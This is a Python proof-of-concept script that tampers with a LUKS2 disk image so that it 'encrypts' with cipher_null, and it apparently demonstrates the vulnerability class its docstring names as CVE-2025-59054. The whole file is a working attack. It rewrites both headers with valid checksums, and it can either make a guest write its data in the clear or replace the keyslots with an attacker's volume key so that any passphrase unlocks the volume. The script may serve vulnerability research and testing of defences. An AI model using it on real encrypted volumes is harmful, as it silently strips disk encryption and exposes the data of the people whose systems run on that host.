#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""null-cipher.py IMAGE OUT [--keyslots] [--segment]

Copies a LUKS2 image and has it "encrypt" with cipher_null, in both copies of the header with good checksums: what a hostile
host does without knowing any passphrase (the class of CVE-2025-59054).

--segment (the default): the data. Keyslots and digest stay, so the right passphrase still opens it, no cryptsetup so far
objects, and a genuine guest writes its data in the clear.
--keyslots: the key material, which becomes that of a volume key of the host's own: any passphrase opens it.
"""
import base64
import hashlib
import json
import os
import shutil
import struct
import sys

BINARY_HEADER = 4096
CHECKSUM = slice(448, 512)


def diffuse(block):
    """The diffusion of LUKS' anti-forensic splitter, with SHA-256."""
    parts = [block[start : start + 32] for start in range(0, len(block), 32)]
    return b"".join(hashlib.sha256(struct.pack(">I", i) + part).digest()[: len(part)] for i, part in enumerate(parts))


def split(key, stripes):
    """Stripes that merge to the key."""
    material, mixed = b"", bytes(len(key))
    for _ in range(stripes - 1):
        stripe = os.urandom(len(key))
        material += stripe
        mixed = diffuse(bytes(a ^ b for a, b in zip(mixed, stripe)))
    return material + bytes(a ^ b for a, b in zip(mixed, key))


def open_keyslots(metadata, image):
    """Gives every keyslot, and the digest, a volume key of our own, which is stored as it is."""
    key = os.urandom(64)
    for keyslot in metadata["keyslots"].values():
        keyslot["area"].update(encryption="cipher_null-ecb", key_size=32)
        image.seek(int(keyslot["area"]["offset"]))
        image.write(split(key, keyslot["af"]["stripes"]))
    for digest in metadata["digests"].values():
        salt, length = base64.b64decode(digest["salt"]), len(base64.b64decode(digest["digest"]))
        made = hashlib.pbkdf2_hmac(digest["hash"], key, salt, digest["iterations"], length)
        digest["digest"] = base64.b64encode(made).decode()


def write_header(image, offset, size, metadata):
    image.seek(offset)
    header = bytearray(image.read(size))
    header[BINARY_HEADER:] = json.dumps(metadata, separators=(",", ":")).encode().ljust(size - BINARY_HEADER, b"\0")
    header[CHECKSUM] = bytes(64)
    header[CHECKSUM] = hashlib.sha256(header).digest().ljust(64, b"\0")
    image.seek(offset)
    image.write(header)


source, target, *what = sys.argv[1:]
shutil.copyfile(source, target)
with open(target, "r+b") as image:
    size = struct.unpack(">Q", image.read(16)[8:])[0]
    image.seek(BINARY_HEADER)
    metadata = json.loads(image.read(size - BINARY_HEADER).split(b"\0", 1)[0])
    if "--keyslots" in what:
        open_keyslots(metadata, image)
    if "--segment" in what or not what:
        for segment in metadata["segments"].values():
            segment["encryption"] = "cipher_null-ecb"
    for offset in (0, size):
        write_header(image, offset, size, metadata)
